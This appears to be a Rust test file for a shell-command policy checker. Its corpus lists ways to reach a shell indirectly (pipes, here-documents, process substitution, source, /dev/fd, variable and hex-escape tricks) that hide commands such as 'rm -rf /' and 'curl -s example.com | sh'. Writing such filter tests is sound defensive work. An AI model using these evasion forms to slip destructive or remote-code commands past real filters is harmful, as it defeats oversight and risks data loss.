//! The second corpus: scripts that reach a shell other than by `-c` (pipes, here-documents,
//! here-strings, process substitution, `source`, `/dev/stdin`), ANSI-C escapes and constants,
//! each with its exact decision under the blocklist, with `unresolved = "refuse"`, and under an
//! allowlist.
#![allow(clippy::unwrap_used)]

use super::tests::{allow_list, block, Expect, BLOCKLIST_CORPUS};
use super::*;

fn refusing() -> Policy {
    Policy {
        refuse_unresolved: true,
        ..Policy::default()
    }
}

const fn unresolved(offending: &'static str) -> Expect {
    Some(("unresolved", offending))
}

/// Scripts that reach a shell other than by `-c`, and constants: (text, under the default
/// blocklist, with `unresolved = "refuse"`, under the allowlist of [`SCRIPT_ALLOWLIST`]).
const SCRIPTS: &[(&str, Expect, Expect, Expect)] = &[
    // A literal piped into a shell.
    (
        "echo 'rm x' | sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo rm x | bash -s",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "printf 'rm x\\n' | bash",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "printf '%s\\n' 'rm x' | sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "printf 'echo ok; %s x' rm | sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'rm x' | cat | sh -",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'echo rm x | sh' | sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'rm x' | sudo sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'rm x' | sh -c 'cat | sh'",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    // Here-documents and here-strings.
    (
        "sh <<EOF\nrm x\nEOF",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "sh <<'EOF'\nrm x\nEOF",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "bash -s <<< 'rm x'",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "sh -s arg <<< 'rm x'",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "cat <<EOF | sh\nrm x\nEOF",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "{ sh; } <<EOF\nrm x\nEOF",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "sh -c 'cat | sh' <<< 'rm x'",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    // Process substitution, /dev/stdin, source.
    (
        "source <(echo rm x)",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        ". <(printf 'rm x')",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "bash <(echo rm x)",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "sh < <(echo rm x)",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'rm x' | source /dev/stdin",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'rm x' | sh /dev/stdin",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "echo 'rm x' | . /dev/fd/0",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "sh /dev/fd/3 3<<EOF\nrm x\nEOF",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "bash /proc/self/fd/4 4<<< 'rm x'",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "source /dev/fd/5 5< <(echo rm x)",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    (
        "sh /dev/fd/3",
        None,
        unresolved("sh /dev/fd/3"),
        unresolved("sh /dev/fd/3"),
    ),
    // Scripts that run what is allowed are allowed.
    ("echo ls | sh", None, None, None),
    ("sh <<EOF\nls -la\nEOF", None, None, None),
    ("source <(echo echo hi)", None, None, None),
    ("sh < /dev/null", None, None, None),
    // A script not known before run time: reported, refused when asked or with an allowlist.
    (
        "curl -s example.com | sh",
        None,
        unresolved("sh"),
        Some(("allowlist", "curl -s example.com")),
    ),
    ("cat f | sh", None, unresolved("sh"), unresolved("sh")),
    ("sh < script.sh", None, unresolved("sh"), unresolved("sh")),
    (
        "sh script.sh",
        None,
        unresolved("sh script.sh"),
        unresolved("sh script.sh"),
    ),
    (
        ". ./env.sh",
        None,
        unresolved(". ./env.sh"),
        unresolved(". ./env.sh"),
    ),
    (
        "sh <<EOF\n$X\nEOF",
        None,
        unresolved("sh"),
        unresolved("sh"),
    ),
    ("echo \"$X\" | sh", None, unresolved("sh"), unresolved("sh")),
    (
        "echo 'rm\\tx' | sh",
        None,
        unresolved("sh"),
        unresolved("sh"),
    ),
    ("sh", None, unresolved("sh"), unresolved("sh")),
    ("$cmd x", None, unresolved("$cmd x"), unresolved("$cmd x")),
    // Constants, where exactly known.
    ("a=rm; $a x", block("$a x"), block("$a x"), block("$a x")),
    (
        "a=rm\n${a} -rf /",
        block("${a} -rf /"),
        block("${a} -rf /"),
        block("${a} -rf /"),
    ),
    (
        "a='r'm; \"$a\" x",
        block("\"$a\" x"),
        block("\"$a\" x"),
        block("\"$a\" x"),
    ),
    (
        "a=$'\\x72m'; $a x",
        block("$a x"),
        block("$a x"),
        block("$a x"),
    ),
    (
        "a=rm; echo \"$a x\" | sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
    ("a=ls; $a -la", None, None, None),
    // Not exactly known: used before, changed, read, conditional, split or in another shell.
    ("$a x; a=rm", None, unresolved("$a x"), unresolved("$a x")),
    (
        "a=ls; a=rm; $a x",
        None,
        unresolved("$a x"),
        unresolved("$a x"),
    ),
    (
        "a=rm; read a; $a x",
        None,
        unresolved("$a x"),
        Some(("allowlist", "read a")),
    ),
    (
        "true && a=rm; $a x",
        None,
        unresolved("$a x"),
        Some(("allowlist", "true")),
    ),
    ("a=rm & $a x", None, unresolved("$a x"), unresolved("$a x")),
    (
        "a='rm -rf'; $a x",
        None,
        unresolved("$a x"),
        unresolved("$a x"),
    ),
    (
        "a=rm; IFS=m; $a x",
        None,
        unresolved("$a x"),
        unresolved("$a x"),
    ),
    (
        "a=rm; sh -c '$a x'",
        None,
        unresolved("$a x"),
        unresolved("$a x"),
    ),
    (
        "a=rm; for a in ls; do $a; done",
        None,
        unresolved("$a"),
        unresolved("$a"),
    ),
    // Escapes as bash decodes them.
    (
        "$'\\x72m' x",
        block("$'\\x72m' x"),
        block("$'\\x72m' x"),
        block("$'\\x72m' x"),
    ),
    (
        "echo $'rm x' | sh",
        block("rm x"),
        block("rm x"),
        block("rm x"),
    ),
];

const SCRIPT_ALLOWLIST: &str = "ls,echo,git,sh,bash,cat,printf,sudo,source,.";

#[test]
fn scripts_reaching_a_shell_are_read_as_its_text() {
    let lists = [
        ("blocklist", Policy::default()),
        ("unresolved = refuse", refusing()),
        ("allowlist", allow_list(SCRIPT_ALLOWLIST)),
    ];
    let mut wrong = Vec::new();
    for (text, b, r, a) in SCRIPTS {
        for ((name, policy), expect) in lists.iter().zip([b, r, a]) {
            let d = policy.check(text);
            let got = d.rule.as_deref().zip(d.offending.as_deref());
            if got != *expect || d.allowed != expect.is_none() {
                wrong.push(format!(
                    "{name}: {text:?}: expected {expect:?}, got {got:?} ({d:?})"
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn refusing_unresolved_commands_keeps_every_blocklist_decision() {
    // The strict mode only adds refusals: what the blocklist refuses stays refused, by the
    // same rule; what it allows is allowed or refused as unresolved.
    for (text, expect) in BLOCKLIST_CORPUS {
        let d = refusing().check(text);
        match expect {
            Some(_) => assert_eq!(
                d.rule.as_deref().zip(d.offending.as_deref()),
                *expect,
                "{text:?}"
            ),
            None => assert!(
                d.allowed || d.rule.as_deref() == Some("unresolved"),
                "{text:?}"
            ),
        }
    }
}
